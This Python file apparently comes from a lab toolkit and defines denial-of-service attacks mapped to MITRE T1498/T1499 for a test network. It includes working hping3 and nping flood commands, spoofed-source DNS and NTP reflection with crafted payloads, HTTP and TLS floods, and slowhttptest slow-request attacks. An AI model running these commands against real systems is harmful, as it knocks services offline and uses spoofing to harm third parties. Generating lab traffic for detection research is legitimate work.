"""Denial of service: T1498, T1499."""
from labkit.attack import Attack

_DIRECT, _REFLECTED, _EXHAUSTION, _SERVICE = "T1498.001", "T1498.002", "T1499.001", "T1499.002"
_PER_SECOND = "--interval u1000"  # a thousand packets


def _hping(name, options, seconds=20, **more):
    return Attack(name, _DIRECT, f"hping3 --quiet {options} {{target}}", seconds=seconds, **more)


def _forged(name, options, seconds=20):
    return Attack(name, _DIRECT, f"hping3 --quiet --rand-source {options} {{shop}}", seconds=seconds, attacker="forged",
                  victims=("shop",))


# A question for www.lab.test, type ANY; an NTP client's question.
_DNS_QUESTION = "12340100000100000000000003777777036c616204746573740000ff0001"
_NTP_QUESTION = "e3" + "00" * 47


def _reflected(name, protocol, port, data, rate, rounds, victim="quiet"):
    payload = f" --data {data}" if data else " --flags syn"
    return Attack(name, _REFLECTED, f"for i in $(seq {rounds}); do nping --{protocol} --source-ip {{{victim}}} --source-port 3074 "
                  f"--dest-port {port}{payload} --rate {rate} --count 1 -v-1 10.77.2.10-69; done", attacker="forged",
                  victims=(victim,))


ENTRIES = [
    _hping("hping3-syn-flood", f"--syn --destport 80 {_PER_SECOND}"),
    _hping("hping3-syn-flood-slow", "--syn --destport 443 --interval u25000", seconds=40),
    _hping("hping3-syn-flood-all-ports", f"--syn --destport ++1 {_PER_SECOND}"),
    _hping("hping3-ack-flood", f"--ack --destport 80 {_PER_SECOND}"),
    _hping("hping3-fin-flood", f"--fin --destport 80 {_PER_SECOND}"),
    _hping("hping3-rst-flood", f"--rst --destport 80 {_PER_SECOND}"),
    _hping("hping3-xmas-flood", f"--fin --push --urg --destport 80 {_PER_SECOND}"),
    _hping("hping3-udp-flood", f"--udp --destport 9 --data 400 {_PER_SECOND}"),
    _hping("hping3-udp-flood-all-ports", f"--udp --destport ++1 --data 100 {_PER_SECOND}"),
    _hping("hping3-icmp-flood", f"--icmp {_PER_SECOND}"),
    _hping("hping3-large-icmp-flood", "--icmp --data 1400 --interval u5000"),
    _hping("hping3-fragment-flood", f"--udp --destport 9 --data 200 --morefrag {_PER_SECOND}"),
    _hping("hping3-raw-ip-flood", f"--rawip --ipproto 47 --data 100 {_PER_SECOND}"),
    Attack("ping6-flood", _DIRECT, "ping -6 -n -q -i 0.002 -c 8000 {target6}", victims=("target6",), seconds=20),
    Attack("nping6-syn-flood", _DIRECT, "nping -6 --tcp --flags syn --dest-port 80 --rate 800 --count 12000 -v-1 {target6}",
           victims=("target6",), seconds=20),
    _forged("hping3-forged-syn-flood", f"--syn --destport 80 {_PER_SECOND}"),
    _forged("hping3-forged-udp-flood", f"--udp --destport 53 --data 300 {_PER_SECOND}"),
    _forged("hping3-forged-icmp-flood", f"--icmp {_PER_SECOND}"),
    _forged("hping3-forged-slow-flood", "--syn --destport 81 --interval u50000", seconds=40),
    _reflected("dns-reflection", "udp", 53, _DNS_QUESTION, 400, 60),
    _reflected("ntp-reflection", "udp", 123, _NTP_QUESTION, 400, 60),
    _reflected("syn-ack-reflection", "tcp", 80, "", 100, 10),
    _reflected("syn-ack-reflection-firewalled", "tcp", 80, "", 100, 10, victim="desk"),
    _reflected("forged-syn-backscatter", "tcp", 5, "", 100, 3),
    Attack("dnsperf-query-flood", _SERVICE, "yes 'www.lab.test A' | head -20000 > {folder}/queries; "
           "dnsperf -s {resolver} -d {folder}/queries -Q 1500 -l 20", seconds=25),
    Attack("ab-http-flood", _SERVICE, "ab -q -t 20 -n 20000 -c 40 http://{target}/", seconds=25),
    Attack("siege-https-flood", _SERVICE, "siege --quiet --concurrent=15 --time=20S --benchmark https://{target}/", seconds=25),
    Attack("tls-handshake-flood", _EXHAUSTION, "openssl s_time -connect {target}:443 -new -time 20", seconds=25),
    Attack("nping-connection-flood", _EXHAUSTION, "nping --tcp-connect --dest-port 80 --rate 200 --count 4000 -v-1 {target}",
           seconds=25),
    Attack("slowhttptest-headers", _SERVICE, "slowhttptest -H -c 250 -r 50 -i 5 -l 25 -u http://{target}/"),
    Attack("slowhttptest-body", _SERVICE, "slowhttptest -B -c 250 -r 50 -i 5 -l 25 -s 8192 -u http://{target}/upload"),
    Attack("slowhttptest-read", _SERVICE, "slowhttptest -X -c 250 -r 50 -w 10 -y 20 -n 5 -z 32 -l 25 -u http://{target}/photo.jpg"),
    Attack("slowhttptest-range", _SERVICE, "slowhttptest -R -c 100 -r 20 -l 20 -u http://{target}/"),
    Attack("outside-slow-headers", _SERVICE, "slowhttptest -H -c 250 -r 50 -i 5 -l 25 -u http://{shop}/", attacker="outside",
           victims=("shop",)),
    Attack("outside-connection-flood", _EXHAUSTION, "nping --tcp-connect --dest-port 80 --rate 200 --count 4000 -v-1 {shop}",
           attacker="outside", victims=("shop",), seconds=25),
]
